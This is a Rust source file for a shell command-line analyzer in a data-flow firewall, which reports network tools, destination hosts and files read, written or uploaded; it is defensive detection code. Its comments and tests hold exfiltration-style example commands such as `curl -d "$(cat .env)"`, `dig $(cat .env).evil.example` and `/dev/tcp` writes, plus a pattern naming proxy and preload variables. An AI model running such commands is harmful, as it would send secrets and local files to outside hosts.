//! Shell command-line analysis for the data-flow firewall.
//!
//! Pure parsing (no I/O, no filesystem, no environment): given the text of a
//! Bash command line, report which network-capable tools run, which hosts they
//! talk to, which local files they send (by path, via a pipeline, or via a
//! command substitution), whether commits are pushed, and which files are read
//! or written.
//!
//! # Decisions (where the spec left a choice)
//! * `written_paths`: every file redirect counts, whatever the fd (`> f`,
//!   `>> f`, `2> f`, `&> f`, `>| f`, `>& f`), plus `tee f`, `cp x f`, `mv x f`,
//!   `dd of=f`, `sed -i f`, `sort -o f`, `curl -o f`, `wget -O f`, archives
//!   created by `tar`/`zip`/`7z`, `xxd in out`, `gpg -o`, `openssl -out`, scp/rsync
//!   download targets. `/dev/null`, `/dev/stdout`, `/dev/stderr`, `/dev/tty`,
//!   `/dev/fd/N` and `-` are never reported. `/dev/tcp/H/P` and `/dev/udp/H/P`
//!   become a [`NetUse`] (tool `"/dev/tcp"` / `"/dev/udp"`) instead.
//! * Output of a command substitution or process substitution used in an
//!   argument (`curl -d "$(cat .env)"`, `dig $(cat .env).x.example`) is treated
//!   as data carried by the tool: the paths read inside the substitution go to
//!   the tool's `stdin_from` (not `upload_paths`).  Paths read by a one-liner's
//!   code (`open('.env')`, `readFileSync('.env')`, ...) also go to `stdin_from`.
//! * `stdin_from` = paths read by earlier commands of the same pipeline + paths
//!   read inside substitutions in the tool's own arguments + `< p` on the tool
//!   itself (+ the same, inherited, when the tool runs inside `bash -c`, a
//!   subshell or a `{ }` group whose stdin is a pipe).
//! * `upload_paths` additionally receives `< p` for raw-stream tools (nc, ncat,
//!   socat, telnet, ssh, openssl s_client). Every upload path is also added to
//!   `read_paths`.
//! * `reads_stdin` is true when the tool is not first in its pipeline (or its
//!   enclosing `bash -c`/group stdin is a pipe), when it has a `<`, `<<` or `<<<`
//!   redirect, or when it uses `@-`, `-T -`, `--input -`, etc.
//! * Hosts: lowercased, without userinfo, port, brackets (IPv6 `[::1]` → `::1`) or
//!   trailing dot. Dynamic parts (`$VAR`, `$(...)`, backticks, `${..}`) are
//!   replaced by `*`, so `dig $(cat .env).evil.example` gives `*.evil.example`
//!   and `curl https://$HOST/x` gives `*`.
//! * `host.docker.internal` is NOT loopback (it reaches the host machine's
//!   network stack; treated as external).
//! * Default hosts are filled in for tools with an implicit destination: `gh`
//!   → `github.com` (or `--hostname`), `npm/pnpm/bun publish` →
//!   `registry.npmjs.org`, `yarn publish` → `registry.yarnpkg.com`, `cargo
//!   publish` → `crates.io`, `twine upload`/`poetry publish`/`uv publish` →
//!   `upload.pypi.org`, `gem push` → `rubygems.org`, `aws` → `amazonaws.com`
//!   (or `--endpoint-url`), `gsutil` → `storage.googleapis.com`, `gcloud` →
//!   `googleapis.com`, `az` → `management.azure.com`.
//! * git: only `git push` (and `git send-email`) produce a NetUse; `gh repo sync`
//!   also sets `git_push`. `git add -A/--all` is recorded as `"-A"`, `-u` as
//!   `"-u"`, `git commit -a/--all` as `"-a"`; pathspecs given to `git commit`
//!   are recorded too.
//! * Package managers produce a NetUse only for publish-like subcommands, or
//!   when a URL / custom index / registry is given on the command line.
//! * Interpreters (`python`, `node`, `ruby`, `perl`, `php`, `powershell`, `deno`,
//!   `bun`) produce a NetUse only when inline code (`-c`/`-e`/`-r`/`-Command`,
//!   `-EncodedCommand` decoded, or a heredoc/here-string fed to `python3 -`)
//!   contains a network API; `python script.py` is not reported.
//! * `simple_commands` (also [`ShellFacts::simple_commands`]) returns argv lists (redirections and leading `VAR=x`
//!   assignments removed) of every simple command, including those inside
//!   subshells, groups and `$(...)`/backticks (substitutions listed before the
//!   command using them); strings given to `bash -c`/`eval` are not expanded
//!   there.
//!
//! # Known gaps
//! * No variable tracking (`U=https://x; curl $U` gives host `*`; `$CURL x` is
//!   not recognised as curl), no alias/function expansion.
//! * Writes through previously opened fds (`exec 3<>/dev/tcp/h/p; cat f >&3`) are
//!   only reported as a connection to `h`, without the data.
//! * `case` patterns inside `$(...)` can end the substitution early.
//! * Shell code inside interpreter one-liners (`os.system('curl ...')`) is not parsed.
//! * `${x:-$(cmd)}` substitutions inside parameter expansions are not analysed.
//! * Reads of environment variables (`env | curl -d @- x`) are not paths and are
//!   not reported.
//!
//! # Layout
//! `lex` tokenizes, `parse` builds the `ast`, `facts` walks it and `tools` knows what each
//! command does with its arguments (`options` parses them, `host` reads hosts).

mod ast;
mod facts;
mod host;
mod lex;
mod options;
mod parse;
/// `NAME=value` assignments in a command line, in order.
pub fn assignments(command: &str) -> Vec<(String, String)> {
    static PATTERN: std::sync::OnceLock<regex::bytes::Regex> = std::sync::OnceLock::new();
    let re = PATTERN.get_or_init(|| {
        regex::bytes::Regex::new(r#"(?-u)(?:^|[;&|\s(])([A-Za-z_][A-Za-z0-9_]*)=("[^"]*"|'[^']*'|[^\s;&|)]*)"#)
            .expect("assignment pattern")
    });
    let mut out: Vec<(String, String)> = re
        .captures_iter(command.as_bytes())
        .map(|c| {
            let value = String::from_utf8_lossy(&c[2]).trim_matches(|q| q == '"' || q == '\'').to_owned();
            (String::from_utf8_lossy(&c[1]).into_owned(), value)
        })
        .collect();
    // `for f in /tmp/part_*; do curl -T $f ...`: the loop variable holds the list's words
    // (its first word stands for them).
    static LOOP: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
    let loop_re = LOOP.get_or_init(|| {
        regex::Regex::new(r#"(?:^|[;&|\s(])for\s+([A-Za-z_][A-Za-z0-9_]*)\s+in\s+([^;\n]+)"#).expect("loop pattern")
    });
    if command.contains("for ") {
        for c in loop_re.captures_iter(command).take(16) {
            if let Some(first) = c[2].split_whitespace().next() {
                out.push((c[1].to_owned(), first.trim_matches(|q| q == '"' || q == '\'').to_owned()));
            }
        }
    }
    out
}

/// A command that sets client configuration through the client itself (`npm config set`,
/// `yarn config set`, `pnpm config set`, `git config` with a value, `pip config set`).
pub fn configures_a_client(commands: &[Vec<String>]) -> bool {
    commands.iter().any(|argv| {
        let words: Vec<&str> = argv.iter().map(String::as_str).collect();
        let prog = words.first().map(|p| p.rsplit('/').next().unwrap_or(p)).unwrap_or("");
        let rest: Vec<&str> = words.iter().skip(1).copied().filter(|w| !w.starts_with('-')).collect();
        match prog {
            "npm" | "yarn" | "pnpm" | "pip" | "pip3" => matches!(rest.as_slice(), ["config", "set", ..]),
            // `git config KEY VALUE` (a read names the key alone).
            "git" => {
                (rest.first() == Some(&"config") && rest.len() >= 3)
                    || matches!(rest.as_slice(), ["remote", "add" | "set-url", _, _, ..])
            }
            _ => false,
        }
    })
}

/// The names of the variables `command` expands (`$NAME`, `${NAME}`, `${NAME:-x}`), in order.
pub fn variable_names(command: &str) -> Vec<String> {
    static PATTERN: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
    let re = PATTERN.get_or_init(|| regex::Regex::new(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)").expect("variable pattern"));
    let mut out: Vec<String> = Vec::new();
    for c in re.captures_iter(command).take(64) {
        if !out.iter().any(|n| n == &c[1]) {
            out.push(c[1].to_owned());
        }
    }
    out
}

/// `$NAME` and `${NAME}` in `word` replaced by the values [`assignments`] found (the latest
/// assignment wins). A word without `$` is returned as it is, at no cost.
pub fn substitute(word: &str, vars: &[(String, String)]) -> String {
    if !word.contains('$') {
        return word.to_owned();
    }
    let mut out = word.to_owned();
    for (name, value) in vars.iter().rev() {
        out = out.replace(&format!("${{{name}}}"), value).replace(&format!("${name}"), value);
    }
    out
}

/// A variable set in the command that changes where a client connects: proxies (`HTTPS_PROXY=...`,
/// `export ALL_PROXY=...`), package indexes and module proxies (`GOPROXY`, `PIP_INDEX_URL`),
/// service endpoints (`AWS_ENDPOINT_URL`), preloads and CA bundles.
pub fn proxy_variable(cmd: &str) -> Option<String> {
    static PATTERN: std::sync::OnceLock<regex::bytes::Regex> = std::sync::OnceLock::new();
    let re = PATTERN.get_or_init(|| {
        regex::bytes::Regex::new(
            r"(?i-u)(?:^|[\s;&|(])((?:https?|all|ftp|socks)_proxy|GIT_PROXY_COMMAND|GIT_SSH_COMMAND|GIT_SSH|GIT_CONFIG_COUNT|GIT_CONFIG_PARAMETERS|GIT_CONFIG_GLOBAL|GIT_CONFIG|CURL_HOME|WGETRC|HOSTALIASES|RES_OPTIONS|LOCALDOMAIN|XDG_CONFIG_HOME|LD_PRELOAD|NODE_OPTIONS|SSL_CERT_FILE|CURL_CA_BUNDLE|NODE_EXTRA_CA_CERTS|REQUESTS_CA_BUNDLE|GOPROXY|GOSUMDB|PIP_INDEX_URL|PIP_EXTRA_INDEX_URL|UV_INDEX_URL|UV_EXTRA_INDEX_URL|NPM_CONFIG_REGISTRY|YARN_REGISTRY|AWS_ENDPOINT_URL[A-Z0-9_]*|CARGO_REGISTRIES_[A-Z0-9_]+_INDEX)=",
        )
        .expect("proxy variable pattern")
    });
    re.captures(cmd.as_bytes()).map(|c| String::from_utf8_lossy(&c[1]).into_owned())
}

/// A shell glob (`*`, `?`, `[...]`, `[!...]`) as an anchored regex over paths (`*` stays within
/// one path segment); `None` for a word without glob characters or an unclosed class.
pub fn glob_regex(pattern: &str) -> Option<regex::Regex> {
    build_glob_regex(pattern, false)
}

/// [`glob_regex`] as the shell expands it by default: a `*` or `?` at the start of a path
/// component does not match a leading dot (`rm -rf *` leaves `.claude` alone).
pub fn glob_regex_hiding_dotfiles(pattern: &str) -> Option<regex::Regex> {
    build_glob_regex(pattern, true)
}

fn build_glob_regex(pattern: &str, hide_dotfiles: bool) -> Option<regex::Regex> {
    if !pattern.contains(['*', '?', '[']) {
        return None;
    }
    let mut re = String::from("^");
    let mut in_class = false;
    let mut prev = '/';
    for c in pattern.chars() {
        let component_start = prev == '/' && !in_class;
        prev = c;
        // (A class at the start of a component is left as written: it may match a dot.)
        if hide_dotfiles && component_start && c == '*' {
            re.push_str("(?:[^./][^/]*)?");
            continue;
        }
        if hide_dotfiles && component_start && c == '?' {
            re.push_str("[^./]");
            continue;
        }
        match c {
            '*' if !in_class => re.push_str("[^/]*"),
            '?' if !in_class => re.push_str("[^/]"),
            '[' if !in_class => {
                in_class = true;
                re.push('[');
            }
            ']' if in_class => {
                in_class = false;
                re.push(']');
            }
            '!' if in_class && re.ends_with('[') => re.push('^'),
            other => re.push_str(&regex::escape(&other.to_string())),
        }
    }
    if in_class {
        return None;
    }
    re.push('$');
    regex::Regex::new(&re).ok()
}

#[cfg(test)]
mod test_util;
mod tools;

pub use facts::{NetUse, ShellFacts, UnknownProgram};
pub use host::{is_loopback, url_hosts_in};

/// Deepest syntax nesting analysed (substitutions, groups, re-parsed strings).
const MAX_DEPTH: usize = 40;
/// Deepest nesting of strings re-parsed as shell code (`bash -c`, `eval`, `env -S`, ...).
const MAX_STR_DEPTH: usize = 12;
/// Most entries kept in one list of paths or hosts.
const MAX_ENTRIES: usize = 1024;

/// The pseudo path recorded when a command prints the process environment (`env`, `printenv`,
/// `export -p`): what it outputs is as sensitive as a credentials file.
pub const ENVIRONMENT: &str = "<environment>";

/// Parse a shell command line and return the facts (its simple commands included).
pub fn analyze(command: &str) -> ShellFacts {
    let script = parse::parse_str(command, 0);
    let mut facts = facts::Analyzer::run(&script);
    facts.simple_commands = script.simple_commands();
    facts
}

/// Split into simple commands (argv lists after quote removal).
/// The command line with the contents of quoted strings blanked: single-quoted text wholly,
/// double-quoted text except the marks of its expansions (`$`, `(`, `)`, backticks), so what is left is what the
/// shell reads as syntax (`f() {`, `$(...)`) rather than text handed to a program.
pub fn unquoted_text(command: &str) -> String {
    let mut out = String::with_capacity(command.len());
    let mut quote: Option<char> = None;
    let mut escaped = false;
    for c in command.chars() {
        match (quote, c) {
            (_, _) if escaped => {
                escaped = false;
                out.push(if quote.is_some() { ' ' } else { c });
            }
            (Some('\''), '\'') | (Some('"'), '"') => {
                quote = None;
                out.push(c);
            }
            (Some('\''), _) => out.push(' '),
            (Some('"'), '\\') => {
                escaped = true;
                out.push(' ');
            }
            (Some('"'), '$' | '`' | '(' | ')') => out.push(c),
            (Some(_), _) => out.push(' '),
            (None, '\\') => {
                escaped = true;
                out.push(c);
            }
            (None, '\'' | '"') => {
                quote = Some(c);
                out.push(c);
            }
            (None, _) => out.push(c),
        }
    }
    out
}

/// Whether the shell expands anything on the line (a variable, `$(..)`, backticks): when it
/// does not, a `$` or backtick inside an argument is literal text.
pub fn expands_anything(command: &str) -> bool {
    unquoted_text(command).contains(['$', '`'])
}

pub fn simple_commands(command: &str) -> Vec<Vec<String>> {
    parse::parse_str(command, 0).simple_commands()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quoted_text_is_not_syntax() {
        assert_eq!(unquoted_text("git commit -m 'fn main() {}'"), "git commit -m '            '");
        assert_eq!(unquoted_text("echo \"a $(b) c\""), "echo \"  $( )  \"");
        assert!(!expands_anything("gh issue create --body 'run `mcpproxy hook evaluate` with $HOME'"));
        assert!(expands_anything("gh issue create --body \"$(cat x)\""));
        assert!(expands_anything("rm -rf `echo ~/.local`"));
        assert!(expands_anything("rm \"$X\""));
    }

    #[test]
    fn garbage_does_not_panic() {
        let inputs = [
            "",
            " ",
            "'",
            "\"",
            "`",
            "$(",
            "$((",
            "${",
            "$'\\",
            "((((((",
            "))))))",
            "{ { {",
            "} } }",
            "<<",
            "<<EOF",
            "<<<",
            "2>",
            "&>",
            "| | |",
            ";;;",
            "\\",
            "a\\",
            "$'\\x",
            "$'\\u",
            "$'\\c",
            "curl -",
            "curl --data",
            "curl -F",
            "dig @",
            "scp :",
            "nc -l",
            "git",
            "git -C",
            "tar",
            "tar -f",
            "env -S",
            "xargs -a",
            "find -exec",
            "bash -c",
            "python3 -c",
            "perl -e",
            "ssh",
            "cat < /dev/tcp/",
            "echo > /dev/tcp/",
            "\u{0}\u{1}\u{ff}",
            "é$(ü`ö`)ä",
            "$'\\777'",
            "f() ( )",
            "x=$( (a) )",
        ];
        for i in inputs {
            let _ = analyze(i);
            let _ = simple_commands(i);
        }
        // pseudo-random bytes
        let mut x: u32 = 12345;
        let alphabet = b"ab $()'\"`\\|&;<>{}#\n\t-@:/=.*~!";
        for _ in 0..300 {
            let mut v = Vec::new();
            for _ in 0..200 {
                x = x.wrapping_mul(1103515245).wrapping_add(12345);
                v.push(alphabet[(x >> 16) as usize % alphabet.len()]);
            }
            let st = String::from_utf8_lossy(&v).into_owned();
            let _ = analyze(&st);
            let _ = analyze(&format!("curl {st}"));
            let _ = analyze(&format!("bash -c {st}"));
        }
        let bin: Vec<u8> = (0..=255u8).cycle().take(5000).collect();
        let _ = analyze(&String::from_utf8_lossy(&bin));
    }

    #[test]
    fn deep_nesting_bounded() {
        let deep = "$(".repeat(100_000);
        let _ = analyze(&format!("echo {deep}"));
        let _ = analyze(&"(".repeat(100_000));
        let _ = analyze(&"{ ".repeat(100_000));
        let _ = analyze(&"`echo \\`".repeat(10_000));
        let _ = analyze(&"eval ".repeat(100_000));
        let _ = analyze(&"env -S env ".repeat(50_000));
        let _ = analyze(&"bash -c ".repeat(50_000));
        let _ = analyze(&"f() ".repeat(50_000));
    }

    #[test]
    fn large_inputs_are_fast() {
        let start = std::time::Instant::now();
        let big = "cat a1 | ".repeat(110_000) + "curl -d @- https://x.example";
        let f = analyze(&big);
        assert_eq!(f.net.len(), 1);
        let mut uniq = String::new();
        for i in 0..60_000 {
            uniq.push_str(&format!("cat f{i} | curl -d @- h{i}.example | "));
        }
        let _ = analyze(&uniq);
        let _ = analyze(&"x".repeat(1_000_000));
        let _ = analyze(&format!("echo '{}'", "y".repeat(1_000_000)));
        let _ = analyze(&format!("cat <<EOF\n{}", "line\n".repeat(200_000)));
        let _ = analyze(&"a; ".repeat(300_000));
        let _ = analyze(&format!("python3 -c \"{}\"", "urlopen('http://a.b/') ".repeat(40_000)));
        assert!(start.elapsed().as_secs() < 60, "too slow: {:?}", start.elapsed());
    }
}
